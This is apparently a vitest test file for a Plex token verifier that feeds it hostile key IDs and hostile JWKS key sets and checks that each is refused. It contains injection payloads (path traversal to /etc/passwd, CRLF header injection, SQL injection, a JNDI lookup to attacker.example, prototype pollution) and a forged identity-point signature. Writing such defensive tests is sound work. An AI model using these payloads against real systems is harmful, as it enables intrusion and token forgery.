import { DEFAULT_CLIENT_IDENTIFIER, type Ed25519Key, generateEd25519Key } from '@plexauth/testing'
import { expect } from 'vitest'
import { fixedKeyPair } from '../../keys/fixed-keys.js'
import {
  b64,
  genuineParts,
  KEY_UNKNOWN,
  lenientLastChar,
  MALFORMED,
  OK,
  type Req,
  type Row,
  type RowRun,
  segments,
  UNAVAILABLE,
  withBearer,
} from '../support.js'

const group = 'keys'
const attacker = generateEd25519Key()
const hostileNumberKid = generateEd25519Key({ kid: '4242' })
type RowEnv = Parameters<NonNullable<Row['send']>>[0]

// Kid injection ---------------------------------------------------------------------------------------

/**
 * A token signed by the attacker under `kid`: refused without a refetch (the main route's cooldown). A kid
 * of 16 characters or more must not come back in an answer nor reach a log line.
 */
function kidRow(name: string, kid: (env: RowEnv) => unknown, expected = KEY_UNKNOWN): Row {
  let sent: unknown
  return {
    group,
    name,
    send: (env) => {
      sent = kid(env)
      return withBearer(env.plex.issueToken({ signWith: attacker, header: { kid: sent } }))
    },
    expect: expected,
    check: (_env, run) => expect(run.keyFetches.plex).toBe(0),
    secrets: () => (typeof sent === 'string' && sent.length >= 16 ? [sent] : []),
  }
}

// Hostile key sets on the `keys` route (cooldown 0): the set is fetched, the hostile member is dropped --

/** The genuine set plus `members`, served to the `keys` route for one row. */
function hostileRow(
  name: string,
  key: Ed25519Key,
  members: (key: Ed25519Key) => object[],
  token?: (env: RowEnv) => string,
): Row {
  return {
    group,
    name,
    route: 'keys',
    setup: ({ keys }) => keys.setKeysResponse({ keys: [...keys.keys.keys, ...members(key)] }),
    send: (env) =>
      withBearer(token?.(env) ?? env.keys.issueToken({ signWith: key, header: { kid: key.kid } })),
    expect: KEY_UNKNOWN,
    teardown: ({ keys }) => keys.setKeysResponse(undefined),
    // Each framework's verifier fetched the hostile set once (so it was examined), and kept the good keys.
    check: (_env, run) => {
      expect(run.keyFetches.keys).toBe(run.frameworks)
      const events = fetched(run)
      expect(events).toHaveLength(run.frameworks)
      expect(events.every((event) => event.keyCount >= 1 && event.dropped >= 1)).toBe(true)
    },
  }
}

function fetched(run: RowRun) {
  return run.events.flatMap(({ event }) => (event.type === 'keys_fetched' ? [event] : []))
}

function failures(run: RowRun) {
  return run.events.flatMap(({ event }) => (event.type === 'keys_fetch_failed' ? [event.reason] : []))
}

/** A key whose public `x` uses `-` or `_`, so that a standard-alphabet spelling differs. */
function keyWithUrlChars(): Ed25519Key {
  for (;;) {
    const key = generateEd25519Key()
    if (/[-_]/.test(key.publicJwk.x)) return key
  }
}

// The identity point: every signature (R = identity, S = 0) verifies under it, for any message.
const IDENTITY_X = Buffer.concat([Buffer.from([1]), Buffer.alloc(31)]).toString('base64url')
const FORGED_SIGNATURE = Buffer.concat([Buffer.from([1]), Buffer.alloc(63)]).toString('base64url')
const rsa = fixedKeyPair('rsa2048').publicKey.export({ format: 'jwk' })

/** A cold route of the row's own plex.tv that serves `response`: the whole set is refused, so 503. */
function refusedSetRow(name: string, serve: Row['setup'], reason: string): Row {
  return {
    group,
    name,
    ownPlex: true,
    route: ({ own }) => ({ jwksUrl: own.jwksUrl, clientIdentifier: DEFAULT_CLIENT_IDENTIFIER }),
    setup: serve,
    send: ({ own }) => withBearer(own.issueToken()),
    expect: UNAVAILABLE,
    check: (_env, run) => expect(failures(run)).toEqual(Array(run.frameworks).fill(reason)),
  }
}

const fresh = () => generateEd25519Key()

export const keysRows: Row[] = [
  kidRow('kid a path traversal', () => '../../../../etc/passwd'),
  kidRow('kid carrying CR LF and a header line', () => 'x"\r\nX-Injected: yes\r\n'),
  kidRow('kid "__proto__"', () => '__proto__'),
  kidRow('kid "constructor"', () => 'constructor'),
  kidRow('kid an SQL injection', () => "' OR '1'='1' --"),
  kidRow('kid a JNDI lookup', () => ['$', '{jndi:ldap://attacker.example/a}'].join('')),
  kidRow(
    'kid holding a whole genuine token (longer than any kid)',
    ({ plex }) => plex.issueToken(),
    MALFORMED,
  ),
  kidRow('kid holding a genuine signature segment', ({ plex }) => segments(plex.issueToken())[2]),
  kidRow(
    'kid shaped like a token',
    () => `${b64({ alg: 'EdDSA' })}.${b64({ sub: 'someone-else' })}.${'s'.repeat(60)}`,
  ),
  kidRow('the genuine kid with a trailing space', ({ plex }) => `${plex.signingKey.kid} `),
  kidRow('kid empty', () => '', MALFORMED),
  kidRow('kid of 129 characters', () => 'k'.repeat(129), MALFORMED),
  kidRow('kid a number', () => 42, MALFORMED),
  kidRow('kid null', () => null, MALFORMED),
  kidRow('kid a list holding the genuine kid', ({ plex }) => [plex.signingKey.kid], MALFORMED),
  kidRow('kid an object', ({ plex }) => ({ toString: plex.signingKey.kid }), MALFORMED),

  // Rotation and removal
  {
    group,
    name: 'rotation: a token of the new signing key verifies after one refetch',
    route: 'keys',
    setup: ({ keys }) => {
      keys.rotateKeys()
    },
    send: ({ keys }) => withBearer(keys.issueToken()),
    expect: OK,
    check: (_env, run) => expect(run.keyFetches.keys).toBe(run.frameworks),
  },
  removalRow(),

  // Hostile members next to the genuine keys
  hostileRow('a private key (with d) published under a new kid', fresh(), (key) => [
    { ...key.publicJwk, d: key.privateKey.export({ format: 'jwk' }).d },
  ]),
  hostileRow('the Ed25519 x labelled crv Ed448', fresh(), (key) => [{ ...key.publicJwk, crv: 'Ed448' }]),
  hostileRow('the Ed25519 x labelled crv X25519', fresh(), (key) => [{ ...key.publicJwk, crv: 'X25519' }]),
  hostileRow('kty EC under the kid', fresh(), (key) => [{ ...key.publicJwk, kty: 'EC' }]),
  hostileRow('an RSA key under the kid', fresh(), (key) => [{ ...rsa, kid: key.kid, use: 'sig' }]),
  hostileRow('a symmetric (oct) key under the kid', fresh(), (key) => [
    { kty: 'oct', kid: key.kid, k: b64('shared secret'), alg: 'HS256' },
  ]),
  hostileRow('x with unused bits set (same bytes, another spelling)', fresh(), (key) => [
    { ...key.publicJwk, x: lenientLastChar(key.publicJwk.x) },
  ]),
  hostileRow('x padded with "="', fresh(), (key) => [{ ...key.publicJwk, x: `${key.publicJwk.x}=` }]),
  hostileRow('x in the standard base64 alphabet', keyWithUrlChars(), (key) => [
    { ...key.publicJwk, x: key.publicJwk.x.replaceAll('-', '+').replaceAll('_', '/') },
  ]),
  hostileRow('x of 33 bytes', fresh(), (key) => [{ ...key.publicJwk, x: `${key.publicJwk.x}AA` }]),
  hostileRow(
    'a small-order key (the identity point) and a token forged for it',
    attacker,
    () => [{ kty: 'OKP', crv: 'Ed25519', x: IDENTITY_X, kid: 'weak-key', use: 'sig', alg: 'EdDSA' }],
    ({ keys }) => {
      const { header, payload } = genuineParts(keys)
      return `${b64({ ...header, kid: 'weak-key' })}.${b64(payload)}.${FORGED_SIGNATURE}`
    },
  ),
  hostileRow('use "enc"', fresh(), (key) => [{ ...key.publicJwk, use: 'enc' }]),
  hostileRow('key_ops ["sign"] only', fresh(), (key) => [{ ...key.publicJwk, key_ops: ['sign'] }]),
  hostileRow('alg RS256 on an Ed25519 key', fresh(), (key) => [{ ...key.publicJwk, alg: 'RS256' }]),
  hostileRow('one kid published twice, with the attacker x second', fresh(), (key) => [
    key.publicJwk,
    { ...attacker.publicJwk, kid: key.kid },
  ]),
  hostileRow('kid a number in the set, a string in the token', hostileNumberKid, (key) => [
    { ...key.publicJwk, kid: 4242 },
  ]),
  {
    group,
    name: 'the genuine signing key published twice: both copies are dropped',
    route: 'keys',
    phases: [
      {
        before: ({ keys }) => {
          // A second key keeps the set usable once the doubled one is dropped (else the fetch fails and backs off).
          keys.addKey()
          keys.setKeysResponse({ keys: [...keys.keys.keys, keys.signingKey.publicJwk] })
        },
        // An unknown kid makes every verifier fetch the doubled set.
        send: ({ keys }) =>
          withBearer(keys.issueToken({ signWith: attacker, header: { kid: attacker.kid } })),
        expect: KEY_UNKNOWN,
      },
      { send: ({ keys }) => withBearer(keys.issueToken()), expect: KEY_UNKNOWN },
    ],
    teardown: ({ keys }) => keys.setKeysResponse(undefined),
  },
  {
    group,
    name: 'static keys: an unknown kid is refused without any fetch',
    ownPlex: true,
    route: ({ own }) => ({ keys: own.keys, clientIdentifier: DEFAULT_CLIENT_IDENTIFIER }),
    send: ({ own }) => withBearer(own.issueToken({ signWith: attacker, header: { kid: attacker.kid } })),
    expect: KEY_UNKNOWN,
    check: (_env, run) => expect(run.keyFetches.own).toBe(0),
  },

  // Whole sets refused (cold cache: 503)
  refusedSetRow(
    'thousands of keys (5,000)',
    ({ own }) => own.fail('/api/v2/auth/keys', { tooManyKeys: 5000 }),
    'too_large',
  ),
  refusedSetRow(
    'one key more than jwks.maxKeys (33)',
    ({ own }) => own.fail('/api/v2/auth/keys', { tooManyKeys: 31 }),
    'too_many_keys',
  ),
  refusedSetRow(
    'only hostile members (private, RSA, small-order)',
    ({ own }) =>
      own.setKeysResponse({
        keys: [
          { ...attacker.publicJwk, d: attacker.privateKey.export({ format: 'jwk' }).d },
          { ...rsa, kid: 'rsa' },
          { kty: 'OKP', crv: 'Ed25519', x: IDENTITY_X, kid: 'weak-key' },
        ],
      }),
    'no_usable_keys',
  ),
  refusedSetRow(
    'keys an object, not a list',
    ({ own }) => own.fail('/api/v2/auth/keys', { body: { keys: {} } }),
    'invalid_jwks',
  ),
]

function removalRow(): Row {
  let first: Req | undefined
  return {
    group,
    name: 'removal: once the set is refetched, a removed key no longer verifies, cached token included',
    route: 'keys',
    phases: [
      {
        send: ({ keys }) => (first = withBearer(keys.issueToken({ user: { id: 4242 } }))),
        expect: { status: 200, user: 4242 },
      },
      {
        // Only a new key stays published; its unknown kid makes every verifier refetch.
        before: ({ keys }) => {
          keys.rotateKeys({ keep: false })
        },
        send: ({ keys }) => withBearer(keys.issueToken()),
        expect: OK,
      },
      // The token of phase 1 again, byte for byte: its key is gone, so the token cache must not answer.
      { send: () => first!, expect: KEY_UNKNOWN },
    ],
  }
}
